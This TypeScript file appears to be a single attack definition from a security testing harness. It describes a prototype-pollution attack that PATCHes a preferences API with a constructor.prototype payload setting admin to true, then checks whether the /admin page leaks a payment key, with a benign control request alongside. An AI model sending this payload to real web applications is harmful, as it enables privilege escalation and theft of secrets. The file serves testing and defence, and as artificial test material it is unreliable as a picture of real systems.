import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** The same by way of constructor.prototype. */
export const prototypeConstructor: Attack = defineAttack({
  id: 'prototype-constructor',
  class: 'prototype-pollution',
  title: 'The same by way of constructor.prototype',
  cwe: 1321,
  capec: 77,
  technique: 'T1190',
  preconditions: [],

  steps: async ({ visitor }) => {
    await visitor.json('/api/preferences', { constructor: { prototype: { admin: true } } }, 'PATCH')
    return visitor.get('/admin')
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) => visitor.json('/api/preferences', { builder: { kind: 'constructor' } }, 'PATCH'),
})
